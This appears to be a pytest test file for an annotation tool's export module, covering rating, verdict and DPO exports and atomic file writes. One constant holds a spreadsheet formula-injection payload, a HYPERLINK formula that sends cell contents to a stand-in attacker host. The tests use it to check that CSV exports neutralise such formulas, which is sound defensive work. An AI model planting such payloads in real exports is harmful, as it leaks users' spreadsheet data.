"""Exports: unblinded ratings, judgments, verdicts and DPO pairs in every format."""

from __future__ import annotations

import io
import json

import pandas as pd
import pytest

from sidebyside.annotate.export import export_frame, write_export
from sidebyside.foundation.errors import InputError, NotFound
from tests.analysis_helpers import build_study, pair_of, rate, verdict


@pytest.fixture
def built(session):
    b = build_study(session, lengths={"base": 4, "tuned": 8}, flip={1})
    pids = [pair_of(b, i, "base", "tuned")[0] for i in range(4)]
    # pair 0 (base=a): 2×b, 1×a ─► clear b (tuned); pair 1 (tuned=a): a, a, tie ─► clear tuned
    # pair 2: a, b ─► no majority; pair 3: tie, tie, a ─► tie
    for ann, pref in zip(("u1", "u2", "u3"), "bba", strict=True):
        rate(session, b, ann, pids[0], pref, scores={"Accuracy": {"a": 2, "b": 4}}, swapped=True)
    for ann, pref in zip(("u1", "u2", "u3"), ("a", "a", "tie"), strict=True):
        rate(session, b, ann, pids[1], pref, swapped=False)
    rate(session, b, "u1", pids[2], "a")
    rate(session, b, "u2", pids[2], "b")
    for ann, pref in zip(("u1", "u2", "u3"), ("tie", "tie", "a"), strict=True):
        rate(session, b, ann, pids[3], pref)
    verdict(session, b, "openai:gpt", pids[0], "b", "b")  # consistent tuned
    verdict(session, b, "openai:gpt", pids[1], "a", "b")  # inconsistent
    verdict(session, b, "openai:gpt", pids[2], "a", "a")  # consistent base
    return b, pids


def test_ratings_are_unblinded(session, built):
    b, pids = built
    df = export_frame(session, b.study.name, "ratings")
    assert len(df) == 11
    r = df[(df["pair_id"] == pids[0]) & (df["annotator"] == "u1")].iloc[0]
    assert (r["system_a"], r["system_b"], r["preference"], r["winner"]) == (
        "base",
        "tuned",
        "b",
        "tuned",
    )
    assert (r["shown_left"], r["shown_right"]) == ("tuned", "base")  # swapped
    assert (r["Accuracy_a"], r["Accuracy_b"], r["Fluency_a"]) == (2, 4, None)
    assert r["prompt_id"] == "p0" and r["time_spent_s"] == 12.5 and r["source"] == "app"
    r1 = df[(df["pair_id"] == pids[1])].iloc[0]
    assert (r1["shown_left"], r1["winner"]) == ("tuned", "tuned")
    assert pd.isna(df[df["pair_id"] == pids[2]].iloc[0]["shown_left"])


def test_judgments_and_verdicts(session, built):
    b, _ = built
    j = export_frame(session, b.study, "judgments", "judge:openai:gpt")
    assert len(j) == 6 and set(j["order"]) == {"ab", "ba"}
    ab = j[j["order"] == "ab"].iloc[0]
    assert ab["shown_first"] == ab["system_a"] and ab["raw"].startswith("[[")
    v = export_frame(session, b.study, "verdicts", "human")
    assert set(v["source"]) == {"human"} and len(v) == 11
    v = export_frame(session, b.study, "verdicts", "judge:openai:gpt")
    assert len(v) == 3 and set(v["judge"]) == {"openai:gpt"}
    assert len(export_frame(session, b.study, "verdicts")) == 14
    with pytest.raises(NotFound, match="judges: openai:gpt"):
        export_frame(session, b.study, "verdicts", "judge:nope")
    with pytest.raises(InputError, match="human or 'judge:SPEC'|'human' or 'judge:SPEC'"):
        export_frame(session, b.study, "verdicts", "robots")
    with pytest.raises(InputError, match="unknown export"):
        export_frame(session, b.study, "everything")


def test_dpo_from_clear_human_majorities(session, built):
    b, _ = built
    df = export_frame(session, b.study, "dpo")
    assert list(df.columns) == ["prompt", "chosen", "rejected"]
    assert len(df) == 2  # pairs 0 and 1; pair 2 split, pair 3 a tie
    assert set(df["prompt"]) == {"Question 0?", "Question 1?"}
    assert (df["chosen"] == "t" * 8).all() and (df["rejected"] == "b" * 4).all()


def test_dpo_from_a_consistent_judge(session, built):
    b, _ = built
    df = export_frame(session, b.study, "dpo", "judge:openai:gpt")
    assert len(df) == 2  # the inconsistent pair is left out
    pairs = set(zip(df["prompt"], df["chosen"], strict=True))
    assert pairs == {("Question 0?", "t" * 8), ("Question 2?", "b" * 4)}


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_write_round_trip(session, built, fmt, tmp_path):
    b, _ = built
    df = export_frame(session, b.study, "ratings")
    data = write_export(df, fmt)
    if fmt == "csv":
        back = pd.read_csv(io.BytesIO(data))
    elif fmt == "jsonl":
        back = pd.read_json(io.BytesIO(data), lines=True)
        assert json.loads(data.splitlines()[0])["winner"] in ("base", "tuned", "tie")
    else:
        back = pd.read_parquet(io.BytesIO(data))
    assert len(back) == len(df) and list(back.columns) == list(df.columns)
    assert list(back["winner"]) == list(df["winner"])
    path = tmp_path / f"x.{fmt}"
    assert write_export(df, fmt, path) is None and path.read_bytes() == data
    assert not list(tmp_path.glob("*.partial"))  # no partial file left


def test_empty_jsonl_export_is_empty():
    assert write_export(pd.DataFrame({"winner": []}), "jsonl") == b""


def test_judgment_scores_are_json_text_in_csv(session, built):
    b, _ = built
    j = export_frame(session, b.study, "judgments")
    j.loc[0, "scores"] = None
    j["scores"] = [{"overall": 7}] + [None] * (len(j) - 1)
    text = write_export(j, "csv").decode()
    assert '"{""overall"": 7}"' in text


def test_write_bad_format():
    with pytest.raises(InputError, match="unknown format"):
        write_export(pd.DataFrame(), "xlsx")


# --- issue 9: formula injection (finding 7) and atomic --out (finding 6)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _study_with_formulas(engine) -> None:
    """A study whose system name, output and comment start like spreadsheet formulas; every
    pair rated by three annotators (a clear majority for DPO)."""
    import csv as csv_mod

    from sidebyside.annotate.assignment import next_assignment, submit_rating
    from sidebyside.annotate.auth import create_user
    from sidebyside.annotate.importing import import_sources
    from sidebyside.annotate.studies import create_study
    from sidebyside.foundation.db import unit_of_work

    buf = io.StringIO()
    w = csv_mod.writer(buf)
    w.writerow(["prompt_id", "prompt", "system", "output"])
    w.writerow(["p1", "Say hi", "@evil-sys", EVIL])
    w.writerow(["p1", "Say hi", "good", "hi there"])
    with unit_of_work(engine) as s:
        study = create_study(s, name="formulas", k=3, seed=1)
        import_sources(s, study=study, sources=[("o.csv", buf.getvalue().encode())])
        users = [create_user(s, username=f"r{i}", password="pass1234-xyz") for i in range(3)]
    scores = {
        c: {"A": 3, "B": 3} for c in ("Accuracy", "Relevance", "Format compliance", "Fluency")
    }
    for u in users:
        with unit_of_work(engine) as s:
            a = next_assignment(s, study=study, user=u)
            pref = "B" if a.swapped else "A"  # everyone prefers canonical side a
            submit_rating(
                s,
                assignment_id=a.id,
                user_id=u.id,
                preference=pref,
                scores=scores,
                comment="+1 great",
            )


def test_csv_exports_neutralise_formulas_unless_turned_off(engine):
    _study_with_formulas(engine)
    from sqlmodel import Session

    with Session(engine) as s:
        ratings = export_frame(s, "formulas", "ratings")
        dpo = export_frame(s, "formulas", "dpo")
    assert len(dpo) == 1
    safe = pd.read_csv(io.BytesIO(write_export(ratings, "csv")), dtype=str)
    assert set(safe["comment"]) == {"'+1 great"}
    assert "'@evil-sys" in set(safe["system_a"]) | set(safe["system_b"])
    dpo_csv = pd.read_csv(io.BytesIO(write_export(dpo, "csv")), dtype=str)
    assert "'" + EVIL in set(dpo_csv["chosen"]) | set(dpo_csv["rejected"])
    assert not any(
        str(v).startswith(("=", "+", "-", "@")) for v in dpo_csv.to_numpy().ravel() if v == v
    )
    raw = pd.read_csv(io.BytesIO(write_export(ratings, "csv", formula_guard=False)), dtype=str)
    assert set(raw["comment"]) == {"+1 great"}
    # JSONL keeps the text exactly as written.
    row = json.loads(write_export(dpo, "jsonl").decode().splitlines()[0])
    assert EVIL in (row["chosen"], row["rejected"])


def test_cli_export_flag_and_atomic_out(engine, db_url, tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from sidebyside.cli.main import app

    _study_with_formulas(engine)
    runner = CliRunner()
    out = tmp_path / "ratings.csv"
    res = runner.invoke(app, ["export", "formulas", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert "'+1 great" in out.read_text()
    res = runner.invoke(app, ["export", "formulas", "--no-formula-guard", "--out", str(out)])
    assert res.exit_code == 0 and "'+1 great" not in out.read_text()
    before = out.read_bytes()

    def disk_full(fd: int) -> None:  # the write fails after half the bytes are out
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", disk_full)
    res = runner.invoke(app, ["export", "formulas", "-f", "jsonl", "--out", str(out)])
    assert res.exit_code != 0 and "No space left on device" in res.output
    assert out.read_bytes() == before  # the earlier complete export is untouched
    assert not list(tmp_path.glob(".ratings.csv*"))  # no temporary file left behind


@pytest.mark.slow
def test_kill_9_mid_export_keeps_the_previous_file(tmp_path):
    """A process killed while writing leaves the old file whole (before: 0 bytes)."""
    import os
    import signal
    import subprocess
    import sys

    target = tmp_path / "big.csv"
    target.write_bytes(b"complete,earlier\n")
    script = (
        "import os, sys\n"
        "from sidebyside.foundation.atomic import write_atomic\n"
        "def stall(fd):\n"
        "    print('writing', flush=True)\n"
        "    sys.stdin.read()  # blocks until killed\n"
        "os.fsync = stall\n"
        f"write_atomic({str(target)!r}, b'x' * 50_000_000)\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", script],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        cwd=os.getcwd(),
    )
    assert proc.stdout.readline().strip() == b"writing"  # mid-write, bytes already out
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert target.read_bytes() == b"complete,earlier\n"
